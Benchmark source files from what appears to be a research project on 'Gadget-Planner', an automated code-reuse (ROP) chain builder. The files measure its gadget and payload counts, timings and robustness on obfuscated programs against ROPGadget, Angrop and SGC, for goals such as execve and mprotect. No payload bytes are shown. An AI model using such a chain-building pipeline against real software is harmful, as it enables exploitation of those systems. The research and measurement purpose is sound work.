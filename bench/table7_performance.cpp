// Table VII: per-stage time and memory of each tool on the obfuscated
// netperf-like target. Expected shape: gadget extraction and subsumption
// dominate Gadget-Planner's time while planning is cheapest (the two
// earlier stages shrink the pool); Angrop is fastest overall.
#include <chrono>

#include "bench_util.hpp"
#include "baselines/baselines.hpp"
#include "codegen/codegen.hpp"
#include "minic/minic.hpp"

int main() {
  using namespace gp;
  using Clock = std::chrono::steady_clock;

  auto prog = minic::compile_source(corpus::netperf().source);
  obf::obfuscate(prog, obf::Options::llvm_obf(2023));
  const auto img = codegen::compile(prog, bench::bench_codegen());
  std::printf("Table VII — per-stage cost on obfuscated netperf-like "
              "(%zu bytes of code, codegen %s)\n\n",
              img.code().size(), bench::opt_label());
  std::printf("%-16s %-22s %10s %10s\n", "tool", "stage", "time(s)",
              "mem(MB)");
  bench::hr(64);

  // Angrop-like: finding (extraction, no subsumption) + chaining.
  {
    solver::Context ctx;
    auto t0 = Clock::now();
    gadget::Extractor ex(ctx, img);
    gadget::Library lib(ex.extract({}));
    const double find_s = std::chrono::duration<double>(Clock::now() - t0).count();
    const u64 find_mb = core::current_rss_mb();
    auto t1 = Clock::now();
    int chains = 0;
    for (const auto& goal : payload::Goal::all())
      chains += static_cast<int>(
          baselines::angrop(ctx, lib, img, goal).chains.size());
    const double chain_s = std::chrono::duration<double>(Clock::now() - t1).count();
    std::printf("%-16s %-22s %10.2f %10s\n", "Angrop", "gadget finding",
                find_s, core::format_rss_mb(find_mb).c_str());
    std::printf("%-16s %-22s %10.2f %10s  (%d chains)\n", "", "chaining",
                chain_s, core::format_rss_mb(core::current_rss_mb()).c_str(),
                chains);
  }

  // SGC-like: disassembly/extraction + synthesis.
  {
    solver::Context ctx;
    auto t0 = Clock::now();
    gadget::Extractor ex(ctx, img);
    gadget::Library lib(ex.extract({}));
    const double dis_s = std::chrono::duration<double>(Clock::now() - t0).count();
    auto t1 = Clock::now();
    int chains = 0;
    for (const auto& goal : payload::Goal::all())
      chains += static_cast<int>(
          baselines::sgc(ctx, lib, img, goal, 4, 20).chains.size());
    const double synth_s = std::chrono::duration<double>(Clock::now() - t1).count();
    std::printf("%-16s %-22s %10.2f %10s\n", "SGC", "disassembly", dis_s,
                core::format_rss_mb(core::current_rss_mb()).c_str());
    std::printf("%-16s %-22s %10.2f %10s  (%d chains)\n", "", "chaining",
                synth_s, core::format_rss_mb(core::current_rss_mb()).c_str(),
                chains);
  }

  // Gadget-Planner: the staged Session API — each stage is an explicit
  // artifact, and the report carries its accounting.
  {
    core::PipelineOptions popts;
    popts.plan.max_chains = 16;
    popts.plan.time_budget_seconds = 60;
    core::Session gp(core::Engine::shared(), img, popts);
    (void)gp.extract();
    (void)gp.subsume();
    int chains = 0;
    for (const auto& goal : payload::Goal::all())
      chains += static_cast<int>(gp.find_chains(goal).size());
    const auto& rep = gp.report();
    std::printf("%-16s %-22s %10.2f %10s\n", "Gadget-Planner",
                "gadget extraction", rep.extract_seconds,
                core::format_rss_mb(rep.rss_mb_after_extract).c_str());
    std::printf("%-16s %-22s %10.2f %10s  (pool %llu -> %llu)\n", "",
                "subsumption testing", rep.subsume_seconds,
                core::format_rss_mb(rep.rss_mb_after_subsume).c_str(),
                (unsigned long long)rep.pool_raw,
                (unsigned long long)rep.pool_minimized);
    std::printf("%-16s %-22s %10.2f %10s  (%d chains)\n", "", "planning",
                rep.plan_seconds,
                core::format_rss_mb(rep.rss_mb_after_plan).c_str(), chains);
  }

  std::printf("\n(paper Table VII: GP total ~100min on real netperf; "
              "planning the cheapest GP stage; Angrop fastest tool)\n");
  return 0;
}
