// Fig. 5: Gadget-Planner payload counts under each individual obfuscation
// method. Expected shape: bogus control flow, control-flow flattening and
// virtualization introduce the highest code-reuse risk (the paper's red
// bars), instruction substitution and data encoding the least.
#include "bench_util.hpp"
#include "codegen/codegen.hpp"
#include "minic/minic.hpp"

int main() {
  using namespace gp;

  struct Method {
    const char* label;
    obf::Options options;
  };
  const Method methods[] = {
      {"none", obf::Options::none()},
      {"substitution", {.substitution = true, .seed = 7}},
      {"encode-data", {.encode_data = true, .seed = 7}},
      {"bogus-cf", {.bogus_cf = true, .seed = 7}},
      {"flattening", {.flatten = true, .seed = 7}},
      {"virtualization", {.virtualize = true, .seed = 7}},
  };

  std::printf("Fig. 5 — Gadget-Planner payloads per obfuscation method "
              "(summed over %zu programs, all goals)\n",
              bench::bench_programs().size());
  std::printf("%-16s %10s %10s %10s\n", "method", "gadgets", "payloads",
              "code-bytes");
  bench::hr(52);

  for (const auto& m : methods) {
    u64 gadgets = 0, code = 0;
    int payloads = 0;
    for (const auto& program : bench::bench_programs()) {
      auto prog = minic::compile_source(program.source);
      obf::obfuscate(prog, m.options);
      const auto img = codegen::compile(prog);
      code += img.code().size();

      core::PipelineOptions popts;
      popts.plan.max_chains = 8;
      popts.plan.time_budget_seconds = 15;
      core::GadgetPlanner gp(img, popts);
      gadgets += gp.library().size();
      for (const auto& goal : payload::Goal::all())
        payloads += static_cast<int>(gp.find_chains(goal).size());
    }
    std::printf("%-16s %10llu %10d %10llu\n", m.label,
                (unsigned long long)gadgets, payloads,
                (unsigned long long)code);
  }
  std::printf("\n(paper Fig. 5: bogus control flow, flattening and "
              "virtualization introduce the most payloads)\n");
  return 0;
}
