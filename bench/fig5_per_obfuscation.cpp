// Fig. 5: Gadget-Planner payload counts under each individual obfuscation
// method. Expected shape: bogus control flow, control-flow flattening and
// virtualization introduce the highest code-reuse risk (the paper's red
// bars), instruction substitution and data encoding the least.
//
// Each method's bar is one Campaign over the bench programs: sessions run
// concurrently on the shared engine, and the per-job results aggregate
// into the method's row.
#include "bench_util.hpp"

int main() {
  using namespace gp;

  const char* methods[] = {"none",     "substitution", "encode-data",
                           "bogus-cf", "flatten",      "virtualize"};

  std::printf("Fig. 5 — Gadget-Planner payloads per obfuscation method "
              "(summed over %zu programs, all goals, codegen %s)\n",
              bench::bench_programs().size(), bench::opt_label());
  std::printf("%-16s %10s %10s %10s\n", "method", "gadgets", "payloads",
              "code-bytes");
  bench::hr(52);

  core::Campaign::Options copts;
  copts.concurrency = bench::bench_concurrency();
  copts.pipeline.plan.max_chains = 8;
  copts.pipeline.plan.time_budget_seconds = 15;
  core::Campaign campaign(core::Engine::shared(), copts);

  for (const char* method : methods) {
    const auto summary = campaign.run(
        bench::bench_jobs(core::profile_by_name(method, 7), method));
    u64 gadgets = 0, code = 0;
    int payloads = 0;
    for (const auto& r : summary.results) {
      gadgets += r.stages.pool_minimized;
      code += r.code_bytes;
      payloads += r.total_chains();
    }
    std::printf("%-16s %10llu %10d %10llu\n", method,
                (unsigned long long)gadgets, payloads,
                (unsigned long long)code);
  }
  std::printf("\n(paper Fig. 5: bogus control flow, flattening and "
              "virtualization introduce the most payloads)\n");
  return 0;
}
