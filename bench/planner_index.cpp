// Planner index ablation: the plan stage with the postcondition-indexed
// gadget store + nogood learning (GP_PLAN_INDEX=1, the default) versus the
// linear reference path, on the same extracted pools. Prints per-program
// plan seconds for both modes, the speedup, and the search counters that
// explain it (expansions, dead ends, nogood hits) — and hard-fails if the
// two modes disagree on a single chain byte, because the index is required
// to be a pure accelerator.
//
// Each mode runs in its own solver context over its own (deterministic,
// content-identical) extraction, mirroring how the tier-1 harness compares
// GP_PLAN_INDEX=0/1 across separate processes: chain content is allowed to
// depend on solver-context history, so sharing one context between the
// modes would measure that history, not the index.
#include <chrono>
#include <cstdio>
#include <cstdlib>

#include "bench_util.hpp"
#include "codegen/codegen.hpp"
#include "gadget/gadget.hpp"
#include "minic/minic.hpp"
#include "obfuscate/obfuscate.hpp"
#include "planner/planner.hpp"
#include "subsume/subsume.hpp"

namespace gp {
namespace {

constexpr u64 kSeed = 5;  // the campaign default, so pools match tier-1

double now_s() {
  using clock = std::chrono::steady_clock;
  return std::chrono::duration<double>(clock::now().time_since_epoch())
      .count();
}

struct ModeResult {
  std::vector<payload::Chain> chains;
  planner::Stats stats;
  double seconds = 0;
};

ModeResult run_mode(const image::Image& img, bool indexed) {
  solver::Context ctx;
  gadget::Extractor ex(ctx, img);
  auto pool = ex.extract({});
  pool = subsume::minimize(ctx, pool);
  const gadget::Library lib(std::move(pool));

  planner::Planner p(ctx, lib, img);
  planner::Options opts;
  opts.use_index = indexed;
  opts.use_nogoods = indexed;
  ModeResult r;
  const double t0 = now_s();
  r.chains = p.plan(payload::Goal::execve(), opts);
  r.seconds = now_s() - t0;
  r.stats = p.stats();
  return r;
}

int run() {
  std::printf("%-14s %9s %9s %7s %10s %10s %9s %7s\n", "program",
              "linear_s", "index_s", "speedup", "expansions", "dead_ends",
              "nogoods", "chains");
  double lin_total = 0, idx_total = 0;
  for (const auto& prog : bench::bench_programs()) {
    auto p = minic::compile_source(prog.source);
    obf::obfuscate(p, obf::Options::llvm_obf(kSeed));
    const image::Image img = codegen::compile(p);

    const ModeResult linear = run_mode(img, false);
    const ModeResult indexed = run_mode(img, true);

    // Equivalence gate: byte-identical chains or the ablation is invalid.
    bool same = linear.chains.size() == indexed.chains.size();
    for (size_t i = 0; same && i < linear.chains.size(); ++i)
      same = linear.chains[i].gadgets == indexed.chains[i].gadgets &&
             linear.chains[i].payload == indexed.chains[i].payload;
    if (!same) {
      std::fprintf(stderr,
                   "%s: indexed chains diverge from linear (%zu vs %zu)\n",
                   prog.name.c_str(), indexed.chains.size(),
                   linear.chains.size());
      return 1;
    }

    lin_total += linear.seconds;
    idx_total += indexed.seconds;
    std::printf("%-14s %9.3f %9.3f %6.1fx %10llu %10llu %9llu %7zu\n",
                prog.name.c_str(), linear.seconds, indexed.seconds,
                linear.seconds / std::max(indexed.seconds, 1e-9),
                static_cast<unsigned long long>(indexed.stats.expansions),
                static_cast<unsigned long long>(indexed.stats.dead_ends),
                static_cast<unsigned long long>(indexed.stats.nogood_hits),
                indexed.chains.size());
  }
  std::printf("%-14s %9.3f %9.3f %6.1fx\n", "TOTAL", lin_total, idx_total,
              lin_total / std::max(idx_total, 1e-9));
  return 0;
}

}  // namespace
}  // namespace gp

int main() { return gp::run(); }
