// Table IV: gadgets (total/used) and payload counts per attack goal, for
// the four tools, across {Original, LLVM-Obf, Tigress}. Expected shape:
// Gadget-Planner builds far more payloads than ROPGadget/Angrop (which
// mostly fail outright), and more than SGC; obfuscated rows dominate the
// original row; parenthesized numbers are payloads newly introduced by the
// obfuscation.
#include "bench_util.hpp"

int main() {
  using namespace gp;
  const auto programs = bench::bench_programs();
  const auto campaign_opts = bench::quick_campaign();
  const auto& goals = payload::Goal::all();

  std::printf("Table IV — payloads per tool, summed over %zu benchmark "
              "programs%s\n\n",
              programs.size(),
              bench::full_sweep() ? "" : " (GP_BENCH_FULL=1 for all 12)");

  // totals[row][tool][goal]
  struct ToolAgg {
    u64 gadgets_total = 0, gadgets_used = 0;
    int chains[3] = {0, 0, 0};
  };
  std::vector<std::vector<ToolAgg>> totals;

  const auto rows = bench::table4_rows();
  for (const auto& row : rows) {
    std::vector<ToolAgg> agg(4);
    for (const auto& program : programs) {
      auto r = core::run_campaign(program.name, program.source, row.options,
                                  campaign_opts);
      for (size_t t = 0; t < r.tools.size(); ++t) {
        agg[t].gadgets_total += r.tools[t].gadgets_total;
        agg[t].gadgets_used += r.tools[t].gadgets_used;
        for (size_t g = 0; g < goals.size(); ++g)
          agg[t].chains[g] += r.tools[t].chains_per_goal[g];
      }
    }
    totals.push_back(std::move(agg));
  }

  static const char* kTools[] = {"ROPGadget", "Angrop", "SGC",
                                 "Gadget-Planner"};
  for (size_t rowi = 0; rowi < rows.size(); ++rowi) {
    std::printf("== %s ==\n", rows[rowi].label.c_str());
    std::printf("%-16s %14s %10s %8s %9s %6s %7s%s\n", "tool",
                "gadgets-total", "used", "execve", "mprotect", "mmap",
                "total", rowi > 0 ? "  (new vs original)" : "");
    bench::hr(96);
    for (int t = 0; t < 4; ++t) {
      const auto& a = totals[rowi][t];
      const int total = a.chains[0] + a.chains[1] + a.chains[2];
      std::printf("%-16s %14llu %10llu %8d %9d %6d %7d", kTools[t],
                  (unsigned long long)a.gadgets_total,
                  (unsigned long long)a.gadgets_used, a.chains[0],
                  a.chains[1], a.chains[2], total);
      if (rowi > 0) {
        const auto& orig = totals[0][t];
        const int new_chains =
            total - (orig.chains[0] + orig.chains[1] + orig.chains[2]);
        std::printf("  (%+d)", new_chains);
      }
      std::printf("\n");
    }
    std::printf("\n");
  }
  std::printf("(paper: GP ~30x ROPGadget, ~10x Angrop, ~2x SGC on "
              "obfuscated programs)\n");
  return 0;
}
