// Degraded-mode corpus run: the pipeline under an aggressive resource
// governor, alone and combined with deterministic fault injection
// (GP_FAULT-style specs at several seeds). Reports what each configuration
// cut (skipped offsets, cut paths, UNKNOWN solver answers, planner deadline
// cuts) and — the robustness claim — that every chain that still comes out
// re-validates in a clean emulator with injection disabled.
#include "bench_util.hpp"
#include "codegen/codegen.hpp"
#include "minic/minic.hpp"
#include "support/fault.hpp"

int main() {
  using namespace gp;

  struct Config {
    const char* label;
    bool governed;
    const char* fault_spec;  // nullptr: no injection
    u64 fault_seed;
  };
  const Config configs[] = {
      {"ungoverned", false, nullptr, 0},
      {"governed (aggressive)", true, nullptr, 0},
      {"governed + faults s=11", true,
       "decode=0.002,solver=0.05,emu=0.0005,alloc=0.0002", 11},
      {"governed + faults s=22", true,
       "decode=0.002,solver=0.05,emu=0.0005,alloc=0.0002", 22},
      {"governed + faults s=33", true,
       "decode=0.002,solver=0.05,emu=0.0005,alloc=0.0002", 33},
  };

  const auto programs = bench::bench_programs();
  std::printf("Robustness — governed/faulted pipeline over %zu obfuscated "
              "programs (all goals)\n",
              programs.size());
  std::printf("%-24s %7s %7s %7s %8s %7s %7s %7s\n", "configuration", "pool",
              "chains", "valid", "skip", "cut", "unk", "dcut");
  bench::hr(82);

  for (const auto& cfg : configs) {
    u64 pool = 0, skipped = 0, paths_cut = 0, unknown = 0, deadline_cuts = 0;
    int chains_total = 0, valid_total = 0;
    for (const auto& program : programs) {
      auto prog = minic::compile_source(program.source);
      obf::obfuscate(prog, obf::Options::llvm_obf(7));
      const auto img = codegen::compile(prog);

      std::optional<fault::ScopedSpec> scoped;
      if (cfg.fault_spec) {
        fault::Spec spec = fault::parse_spec(cfg.fault_spec).value();
        spec.seed = cfg.fault_seed;
        scoped.emplace(spec);
      }

      core::PipelineOptions popts;
      if (cfg.governed) {
        popts.governor.deadline_seconds = 20.0;
        popts.governor.max_solver_checks = 3'000;
        popts.governor.max_sym_steps = 3'000'000;
        popts.governor.max_expr_nodes = 6'000'000;
      }
      popts.plan.max_chains = 4;
      popts.plan.time_budget_seconds = 8;
      // Sessions stay sequential here: the fault scope is process-global,
      // so each program's injected run must not overlap another's.
      core::Session gp(core::Engine::shared(), img, popts);
      gp.prepare();
      pool += gp.library().size();
      skipped += gp.extract_stats().offsets_skipped;
      paths_cut += gp.extract_stats().paths_cut;
      unknown += gp.subsume_stats().solver_unknown;

      std::vector<std::pair<payload::Chain, payload::Goal>> found;
      for (const auto& goal : payload::Goal::all())
        for (auto& c : gp.find_chains(goal)) found.emplace_back(c, goal);
      deadline_cuts += gp.planner_stats().deadline_cuts;
      chains_total += static_cast<int>(found.size());

      // The payoff: with injection off, every surviving chain still proves
      // out end-to-end in a fresh emulator.
      scoped.reset();
      for (const auto& [chain, goal] : found)
        valid_total += payload::validate(img, chain, goal,
                                         image::kStackTop - 0x2000,
                                         0xabcdefULL ^ cfg.fault_seed);
    }
    std::printf("%-24s %7llu %7d %7d %8llu %7llu %7llu %7llu\n", cfg.label,
                (unsigned long long)pool, chains_total, valid_total,
                (unsigned long long)skipped, (unsigned long long)paths_cut,
                (unsigned long long)unknown,
                (unsigned long long)deadline_cuts);
  }
  std::printf("\n(expected: valid == chains in every row — degradation "
              "shrinks the pool and chain count, never emits a chain that "
              "fails clean validation)\n");
  return 0;
}
