// serve_load: open-loop load generator for the gp_serve daemon.
//
// Runs the server in-process on a private socket + store, then drives it
// through four legs:
//
//   1. cold/warm — first-request latency against an empty store vs the
//      dedupe/checkpoint fast path (the daemon's reason to exist).
//   2. concurrency — one unique job per client thread, all in flight at
//      once; reports the peak concurrent in-flight count (the acceptance
//      floor is 64).
//   3. Poisson sweep — open-loop arrivals (the generator never waits for
//      completions before firing the next request) at increasing offered
//      rates over the warm corpus; per-rate p50/p99 latency, shed counts,
//      and achieved throughput. The max achieved rate across the sweep is
//      reported as the saturation throughput.
//   4. chaos — the same traffic with GP_FAULT accept/sock_read/sock_write
//      rates armed; every failure must stay a per-request Status (client
//      retries), the daemon must answer a clean ping afterwards.
//
// Writes gp-serve-bench-v1 JSON to BENCH_serve.json (or argv[1]). Quick
// mode by default; GP_BENCH_FULL=1 multiplies the request counts.
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cmath>
#include <cstdio>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

#include "bench_util.hpp"
#include "core/engine.hpp"
#include "serve/client.hpp"
#include "serve/server.hpp"
#include "support/fault.hpp"
#include "support/metrics.hpp"
#include "support/rng.hpp"
#include "support/serial.hpp"

namespace {

using namespace gp;
using Clock = std::chrono::steady_clock;

double ms_since(Clock::time_point t0) {
  return std::chrono::duration<double>(Clock::now() - t0).count() * 1e3;
}

double percentile(std::vector<double> v, double p) {
  if (v.empty()) return 0;
  std::sort(v.begin(), v.end());
  const size_t i = static_cast<size_t>(p * static_cast<double>(v.size() - 1));
  return v[i];
}

struct LegStats {
  std::vector<double> latencies_ms;
  u64 completed = 0, shed = 0;
  /// Errors by failure class — a chaos leg that only says "errors: 37" cannot
  /// distinguish a refused dial from a daemon writing garbage.
  u64 connect_errors = 0, read_errors = 0, write_errors = 0,
      protocol_errors = 0;
  /// Client-side retries taken (chaos leg): each is one failed attempt that
  /// a follow-up attempt absorbed.
  u64 retries = 0;

  u64 errors() const {
    return connect_errors + read_errors + write_errors + protocol_errors;
  }
};

/// Bucket a failed request's Status into a LegStats error class. The
/// wire-layer messages are stable ("socket read: ...", "socket write: ...",
/// "injected sock_*"); anything else is a protocol-level surprise.
void classify_error(const Status& st, LegStats& stats) {
  const std::string& m = st.message();
  if (m.find("sock_read") != std::string::npos ||
      m.find("socket read") != std::string::npos ||
      m.find("truncated frame") != std::string::npos)
    stats.read_errors++;
  else if (m.find("sock_write") != std::string::npos ||
           m.find("socket write") != std::string::npos)
    stats.write_errors++;
  else
    stats.protocol_errors++;
}

/// One blocking request against the daemon; true on a terminal result.
bool one_request(const std::string& sock, const serve::JobSpec& spec,
                 LegStats& stats, std::mutex& mu) {
  const auto t0 = Clock::now();
  auto c = serve::Client::connect(sock);
  if (!c.ok()) {
    std::lock_guard<std::mutex> lock(mu);
    stats.connect_errors++;
    return false;
  }
  auto adm = c.value().submit(spec);
  if (!adm.ok()) {
    std::lock_guard<std::mutex> lock(mu);
    classify_error(adm.status(), stats);
    return false;
  }
  if (!adm.value().accepted) {
    std::lock_guard<std::mutex> lock(mu);
    stats.shed++;
    return false;
  }
  auto outcome = c.value().wait_result();
  std::lock_guard<std::mutex> lock(mu);
  if (!outcome.ok()) {
    classify_error(outcome.status(), stats);
    return false;
  }
  stats.completed++;
  stats.latencies_ms.push_back(ms_since(t0));
  return true;
}

std::string json_leg(const LegStats& s, double offered_rps, double wall_s) {
  std::string j = "{";
  j += "\"offered_rps\": " + std::to_string(offered_rps);
  j += ", \"requests\": " +
       std::to_string(s.completed + s.shed + s.errors());
  j += ", \"completed\": " + std::to_string(s.completed);
  j += ", \"shed\": " + std::to_string(s.shed);
  j += ", \"errors\": " + std::to_string(s.errors());
  j += ", \"connect_errors\": " + std::to_string(s.connect_errors);
  j += ", \"read_errors\": " + std::to_string(s.read_errors);
  j += ", \"write_errors\": " + std::to_string(s.write_errors);
  j += ", \"protocol_errors\": " + std::to_string(s.protocol_errors);
  j += ", \"client_retries\": " + std::to_string(s.retries);
  j += ", \"achieved_rps\": " +
       std::to_string(wall_s > 0 ? static_cast<double>(s.completed) / wall_s
                                 : 0);
  j += ", \"p50_ms\": " + std::to_string(percentile(s.latencies_ms, 0.50));
  j += ", \"p99_ms\": " + std::to_string(percentile(s.latencies_ms, 0.99));
  j += "}";
  return j;
}

}  // namespace

int main(int argc, char** argv) {
  const std::string out_path = argc > 1 ? argv[1] : "BENCH_serve.json";
  const bool full = bench::full_sweep();

  char dir_template[] = "/tmp/gp_serve_bench_XXXXXX";
  const char* dir = ::mkdtemp(dir_template);
  if (!dir) {
    std::fprintf(stderr, "serve_load: mkdtemp failed\n");
    return 1;
  }
  const std::string sock = std::string(dir) + "/gp.sock";

  metrics::set_enabled(true);
  Config cfg = Config::from_env();
  core::Engine engine(cfg);
  serve::ServeOptions sopts;
  sopts.socket_path = sock;
  sopts.queue_limit = 256;
  sopts.max_active = 8;
  sopts.store_dir = std::string(dir) + "/store";
  serve::Server server(engine, sopts);
  if (Status st = server.start(); !st.ok()) {
    std::fprintf(stderr, "serve_load: %s\n", st.to_string().c_str());
    return 1;
  }

  const auto& corpus_programs = corpus::benchmark();
  auto spec_for = [&](size_t i) {
    serve::JobSpec spec;
    spec.program = corpus_programs[i % corpus_programs.size()].name;
    spec.obf = "llvm-obf";
    spec.goal = "execve";
    return spec;
  };

  // -- leg 1: cold vs warm first-request latency ----------------------------
  std::mutex stats_mu;
  double cold_ms = 0, warm_ms = 0;
  {
    LegStats s;
    const auto t0 = Clock::now();
    one_request(sock, spec_for(0), s, stats_mu);
    cold_ms = ms_since(t0);
    const auto t1 = Clock::now();
    one_request(sock, spec_for(0), s, stats_mu);
    warm_ms = ms_since(t1);
  }
  std::printf("cold first request: %.1f ms, warm resubmit: %.1f ms\n",
              cold_ms, warm_ms);

  // Prefill: one pass over the whole corpus so the sweep and chaos legs
  // measure the serving layer over warm analyses, not analysis time.
  {
    LegStats s;
    for (size_t i = 0; i < corpus_programs.size(); ++i)
      one_request(sock, spec_for(i), s, stats_mu);
  }

  // -- leg 2: peak concurrent in-flight -------------------------------------
  // One UNIQUE job per client (seed varies → distinct job ids → real queued
  // work), every client in flight at once. In-flight is counted
  // client-side: submitted, terminal frame not yet received.
  const int kClients = 96;
  std::atomic<int> inflight{0}, max_inflight{0};
  LegStats conc;
  {
    std::vector<std::thread> clients;
    clients.reserve(kClients);
    for (int t = 0; t < kClients; ++t)
      clients.emplace_back([&, t] {
        serve::JobSpec spec = spec_for(static_cast<size_t>(t));
        spec.seed = 1000 + static_cast<u64>(t);
        const int now = inflight.fetch_add(1) + 1;
        int seen = max_inflight.load();
        while (now > seen && !max_inflight.compare_exchange_weak(seen, now)) {
        }
        one_request(sock, spec, conc, stats_mu);
        inflight.fetch_sub(1);
      });
    for (auto& c : clients) c.join();
  }
  std::printf("concurrency: %d clients, peak in-flight %d, %llu completed, "
              "%llu shed, %llu errors\n",
              kClients, max_inflight.load(),
              (unsigned long long)conc.completed,
              (unsigned long long)conc.shed,
              (unsigned long long)conc.errors());

  // -- leg 3: open-loop Poisson sweep ---------------------------------------
  const std::vector<double> rates = full
                                        ? std::vector<double>{50, 200, 800,
                                                              3200}
                                        : std::vector<double>{50, 400, 1600};
  const u64 requests_per_leg = full ? 2000 : 400;
  std::vector<std::string> sweep_json;
  double saturation_rps = 0;
  for (const double rate : rates) {
    // Pre-draw the Poisson arrival offsets (exponential inter-arrivals,
    // fixed seed per rate so reruns see the same schedule).
    Rng rng(static_cast<u64>(rate) * 7919 + 17);
    std::vector<double> arrival_s(requests_per_leg);
    double t = 0;
    for (auto& a : arrival_s) {
      const double u =
          (static_cast<double>(rng.next() >> 11) + 1) * 0x1.0p-53;
      t += -std::log(u) / rate;
      a = t;
    }

    LegStats s;
    std::atomic<u64> next{0};
    const auto t0 = Clock::now();
    std::vector<std::thread> clients;
    for (int c = 0; c < kClients; ++c)
      clients.emplace_back([&] {
        for (;;) {
          const u64 i = next.fetch_add(1);
          if (i >= requests_per_leg) return;
          // Open loop: fire at the scheduled offset no matter how many
          // earlier requests are still in flight.
          const auto due =
              t0 + std::chrono::duration_cast<Clock::duration>(
                       std::chrono::duration<double>(arrival_s[i]));
          std::this_thread::sleep_until(due);
          one_request(sock, spec_for(i), s, stats_mu);
        }
      });
    for (auto& c : clients) c.join();
    const double wall_s =
        std::chrono::duration<double>(Clock::now() - t0).count();
    const double achieved =
        wall_s > 0 ? static_cast<double>(s.completed) / wall_s : 0;
    saturation_rps = std::max(saturation_rps, achieved);
    std::printf("rate %6.0f req/s: %llu completed (%.0f req/s achieved), "
                "%llu shed, %llu errors, p50 %.2f ms, p99 %.2f ms\n",
                rate, (unsigned long long)s.completed, achieved,
                (unsigned long long)s.shed, (unsigned long long)s.errors(),
                percentile(s.latencies_ms, 0.50),
                percentile(s.latencies_ms, 0.99));
    sweep_json.push_back(json_leg(s, rate, wall_s));
  }

  // -- leg 4: chaos — socket faults must never crash the daemon -------------
  // Clients retry like gp_client --retries does: a bounded number of fresh
  // attempts per request, each counted, so the leg reports both how often
  // faults bit and how completely retries absorbed them.
  LegStats chaos;
  {
    fault::ScopedSpec chaos_spec(
        "accept=0.05,sock_read=0.02,sock_write=0.02,seed=11");
    const u64 n = full ? 2000 : 400;
    const int kAttempts = 3;
    std::atomic<u64> next{0};
    std::vector<std::thread> clients;
    for (int c = 0; c < kClients; ++c)
      clients.emplace_back([&] {
        for (;;) {
          const u64 i = next.fetch_add(1);
          if (i >= n) return;
          for (int attempt = 0; attempt < kAttempts; ++attempt) {
            if (one_request(sock, spec_for(i), chaos, stats_mu)) break;
            if (attempt + 1 < kAttempts) {
              std::lock_guard<std::mutex> lock(stats_mu);
              chaos.retries++;
            }
          }
        }
      });
    for (auto& c : clients) c.join();
  }
  const bool alive = [&] {
    auto c = serve::Client::connect(sock);
    return c.ok() && c.value().ping().ok();
  }();
  std::printf("chaos: %llu completed, %llu shed, errors "
              "connect=%llu read=%llu write=%llu protocol=%llu, "
              "%llu client retries, daemon %s\n",
              (unsigned long long)chaos.completed,
              (unsigned long long)chaos.shed,
              (unsigned long long)chaos.connect_errors,
              (unsigned long long)chaos.read_errors,
              (unsigned long long)chaos.write_errors,
              (unsigned long long)chaos.protocol_errors,
              (unsigned long long)chaos.retries,
              alive ? "alive" : "DEAD");

  server.stop(/*drain=*/true);

  std::string j = "{\n";
  j += "  \"schema\": \"gp-serve-bench-v1\",\n";
  j += "  \"quick\": " + std::string(full ? "false" : "true") + ",\n";
  j += "  \"queue_limit\": " + std::to_string(sopts.queue_limit) + ",\n";
  j += "  \"max_active\": " + std::to_string(sopts.max_active) + ",\n";
  j += "  \"cold_first_request_ms\": " + std::to_string(cold_ms) + ",\n";
  j += "  \"warm_resubmit_ms\": " + std::to_string(warm_ms) + ",\n";
  j += "  \"concurrency\": {\"clients\": " + std::to_string(kClients) +
       ", \"peak_inflight\": " + std::to_string(max_inflight.load()) +
       ", \"completed\": " + std::to_string(conc.completed) +
       ", \"floor\": 64, \"meets_floor\": " +
       (max_inflight.load() >= 64 ? "true" : "false") + "},\n";
  j += "  \"sweep\": [\n";
  for (size_t i = 0; i < sweep_json.size(); ++i)
    j += "    " + sweep_json[i] + (i + 1 < sweep_json.size() ? ",\n" : "\n");
  j += "  ],\n";
  j += "  \"saturation_rps\": " + std::to_string(saturation_rps) + ",\n";
  j += "  \"chaos\": " + json_leg(chaos, 0, 0) + ",\n";
  j += "  \"chaos_daemon_alive\": " + std::string(alive ? "true" : "false") +
       "\n}\n";

  if (Status st = serial::write_file_atomic(
          out_path, std::vector<u8>(j.begin(), j.end()));
      !st.ok()) {
    std::fprintf(stderr, "serve_load: %s: %s\n", out_path.c_str(),
                 st.to_string().c_str());
    return 1;
  }
  std::printf("wrote %s (saturation %.0f req/s)\n", out_path.c_str(),
              saturation_rps);

  if (max_inflight.load() < 64) {
    std::fprintf(stderr,
                 "serve_load: FAIL peak in-flight %d below the 64 floor\n",
                 max_inflight.load());
    return 1;
  }
  if (!alive) {
    std::fprintf(stderr, "serve_load: FAIL daemon died under chaos\n");
    return 1;
  }
  return 0;
}
