// Table V: chain properties — average gadget length, average chain length,
// and the gadget-type mix (Ret / IJ / DJ / CJ) of the chains each tool
// builds. Expected shape: ROPGadget/Angrop 100% ret with short gadgets;
// Gadget-Planner uses all types and builds the longest chains.
#include "bench_util.hpp"
#include "baselines/baselines.hpp"
#include "codegen/codegen.hpp"
#include "minic/minic.hpp"

namespace {

struct Props {
  int chains = 0;
  int gadgets = 0;
  int insts = 0;
  int ret = 0, ij = 0, dj = 0, cj = 0;
  void add(const gp::payload::Chain& c) {
    ++chains;
    gadgets += static_cast<int>(c.gadgets.size());
    insts += c.total_insts;
    ret += c.ret_gadgets;
    ij += c.ij_gadgets;
    dj += c.dj_gadgets;
    cj += c.cj_gadgets;
  }
  void print(const char* tool) const {
    if (chains == 0) {
      std::printf("%-16s %10s %10s  (no chains)\n", tool, "-", "-");
      return;
    }
    const double typed = ret + ij + cj;
    std::printf("%-16s %10.1f %10.1f %7.0f%% %5.0f%% %5.0f%% %5.0f%%\n",
                tool, static_cast<double>(insts) / gadgets,
                static_cast<double>(insts) / chains,
                100.0 * ret / typed, 100.0 * ij / typed,
                100.0 * dj / std::max(1, gadgets),
                100.0 * cj / typed);
  }
};

}  // namespace

int main() {
  using namespace gp;
  Props props[4];

  for (const auto& program : bench::bench_programs()) {
    for (const auto& row : bench::table4_rows()) {
      if (row.label == "Original") continue;  // Table V is about obf chains
      auto prog = minic::compile_source(program.source);
      obf::obfuscate(prog, row.options);
      const auto img = codegen::compile(prog);

      core::PipelineOptions popts;
      popts.plan.max_chains = 8;
      popts.plan.time_budget_seconds = 20;
      core::GadgetPlanner gp(img, popts);

      for (const auto& goal : payload::Goal::all()) {
        auto rg = baselines::rop_gadget(img, goal);
